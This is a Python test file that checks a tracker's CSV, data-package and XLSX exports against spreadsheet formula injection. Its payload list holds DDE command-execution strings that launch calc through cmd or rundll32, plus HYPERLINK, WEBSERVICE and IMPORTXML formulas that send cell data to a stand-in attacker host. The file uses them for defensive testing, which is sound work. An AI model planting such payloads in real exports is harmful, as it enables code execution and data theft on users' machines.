"""No cell of a CSV or a workbook starts a formula, and every text is found again as it was typed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from dsr_tracker.core.formulas import as_typed, harmless
from dsr_tracker.reports import xlsx
from dsr_tracker.reports.contents import Kind
from dsr_tracker.reports.report import Report, Scope, build_report
from dsr_tracker.reports.writing import render
from tests.faults.typed_texts import FIRST_CLAUSE, PARTY, dossier_of

_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
PAYLOADS = (
    *(f"{sign}1+1" for sign in _SIGNS),
    *(f"{sign}SUM(A1:A9)" for sign in _SIGNS),
    *(f"{sign}cmd|' /C calc'!A0" for sign in _SIGNS),
    *(f"{before}=1+1" for before in (" ", "  ", "\t", "\r", "\n", "\r\n")),
    *(f"{before}=1+1" for before in ("\u00a0", "\u3000", "\ufeff", "\u200b")),
    *(f"\t{sign}1" for sign in _SIGNS[1:4]),
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMAGE("http://evil.example/a.png")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example")',
    "=1+1\";=2+2;\"",
    '","=1+1","',
    '"\r\n=1+1,"',
    "x\n=1+1",
    "{=SUM(A1)}",
    "'=1+1",
    "''=1",
    "'",
    "=",
    "-",
    "--",
    "=-1",
    "-5.5",
    "+49 30 1234",
    "@minister",
    "– a dash, no minus",
    "00123",
    "1e5",
    "\tindented",
    "<r>=1</r>",
    "_x003D_1+1",
)  # fmt: skip
_RISKY = (*_SIGNS, "\t", "\r", "\n")
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
Said = Callable[[str, int], None]


@pytest.fixture
def say(record_property: Callable[[str, object], None], tell: Callable[[str], None]) -> Said:
    """Keeps how many cells were looked at with the results of the run, and prints it."""

    def said(what: str, count: int) -> None:
        record_property(what, count)
        tell(f"{what}: {count}")
        print(f"{what}: {count}")

    return said


@pytest.fixture(scope="module")
def report() -> Report:
    return build_report(dossier_of(PAYLOADS), Scope(since="2025-01-01"))


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def starts_formula(cell: str) -> bool:
    return cell.startswith(_RISKY) or cell.lstrip("\ufeff\u200b \u00a0\u3000\t\r\n").startswith(_SIGNS)


def numeric(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_there_are_sixty_and_each_is_found_again() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
    for text in PAYLOADS:
        assert as_typed(harmless(text)) == text
        assert not starts_formula(harmless(text)), text


def test_the_flat_csv(report: Report, say: Said) -> None:
    rows = rows_of(render(report, "csv"))
    cells = [cell for row in rows for name, cell in row.items() if name != "score"]
    assert not [cell for cell in cells if starts_formula(cell)]
    for column in ("title", "reason", "search_places", "search_languages", "author"):
        assert {as_typed(row[column]) for row in rows} >= set(PAYLOADS), column
    assert {row["score"] for row in rows if row["as_of"]} == {"1"}
    say("cells of the flat CSV that start no formula", len(cells))


def test_the_data_package(report: Report, say: Said) -> None:
    wanted = {
        "cells": ("reason", "search_places", "search_languages", "author"),
        "notes": ("text", "author"),
        "evidence": ("title", "url", "publisher", "language", "remark", "author"),
        "provisions": ("title", "summary", "remark"),
        "parties": ("name", "remark"),
        "participations": ("remark",),
        "figures": ("subject", "unit", "qualifier", "remark"),
        "references": ("remark",),
        "changes": ("after_reason",),
    }
    with zipfile.ZipFile(io.BytesIO(render(report, "zip"))) as archive:
        tables = {
            name[5:-4]: rows_of(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")
        }
    count = 0
    for name, rows in tables.items():
        cells = [cell for row in rows for field, cell in row.items() if (name, field) != ("figures", "value")]
        assert not [cell for cell in cells if starts_formula(cell)], name
        count += len(cells)
        for column in wanted.get(name, ()):
            assert {as_typed(row[column]) for row in rows} >= set(PAYLOADS), (name, column)
    assert {row["value"] for row in tables["figures"]} == {"-5.5"}
    say("cells of the data package that start no formula", count)


@pytest.mark.parametrize("way", ["in memory", "row by row"])
def test_the_workbook(report: Report, say: Said, monkeypatch: pytest.MonkeyPatch, way: str) -> None:
    if way == "row by row":
        monkeypatch.setattr(xlsx, "SMALL", 0)
    content = render(report, "xlsx")
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    tables = {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
    wanted = {
        "Assessments": ("Provision", "Reason", "Searched", "Languages of the search", "Author"),
        "Notes": ("Note", "Author", "Provision"),
        "Evidence": ("Title", "Publisher", "Language", "Address", "Remark", "Recorded by"),
        "Figures": ("Subject", "Hedge", "Unit", "Remark"),
        "References": ("Name", "Remark"),
        "Changes": ("Provision", "Reason now"),
        "Means": ("Name",),
        "Matrix": ("Provision",),
    }
    for name, columns in wanted.items():
        heads, *rows = tables[name]
        for column in columns:
            found = {row[heads.index(column)] for row in rows}
            assert found >= set(PAYLOADS), (
                name,
                column,
            )
    heads, *rows = tables["Figures"]
    assert {row[heads.index("Value")] for row in rows} == {-5.5}
    say(f"texts of the workbook ({way}) that start no formula", unmarked_texts(content))


def unmarked_texts(content: bytes) -> int:
    """How many cells hold text; each that begins like a formula has Excel's mark, and none is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    styles = ElementTree.fromstring(parts["xl/styles.xml"])
    formats: Any = styles.find(f"{_MAIN}cellXfs")
    is_marked = [form.get("quotePrefix") == "1" for form in formats]
    shared = [
        "".join(part.text or "" for part in item.iter(f"{_MAIN}t"))
        for item in ElementTree.fromstring(parts.get("xl/sharedStrings.xml", b"<none/>"))
    ]
    count = 0
    for name, part in parts.items():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        assert not re.search(rb"<f[ >]", part), name
        for cell in ElementTree.fromstring(part).iter(f"{_MAIN}c"):
            kind, value = cell.get("t"), cell.findtext(f"{_MAIN}v")
            if kind == "s" and value:
                typed = shared[int(value)]
            elif kind == "inlineStr":
                typed = "".join(each.text or "" for each in cell.iter(f"{_MAIN}t"))
            else:
                assert kind in (None, "n"), kind
                continue
            count += 1
            if typed.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "'")):
                assert is_marked[int(cell.get("s", "0"))], (name, cell.get("r"), typed)
    return count


@pytest.mark.parametrize("kind", Kind)
def test_every_kind_of_workbook(kind: Kind, say: Said) -> None:
    scope = Scope(
        kind=kind,
        since="2025-01-01" if kind is Kind.CHANGES else "",
        party_ids=(PARTY,) if kind is Kind.COUNTRY else (),
        provision_id=FIRST_CLAUSE if kind is Kind.CLAUSE else "",
    )
    report = build_report(dossier_of(PAYLOADS), scope)
    say(f"texts of a workbook of kind {kind}", unmarked_texts(render(report, "xlsx")))


def test_numbers_stay_numbers(report: Report) -> None:
    for row in rows_of(render(report, "csv")):
        for column in ("score", "notes", "evidence"):
            assert not row[column] or numeric(row[column])
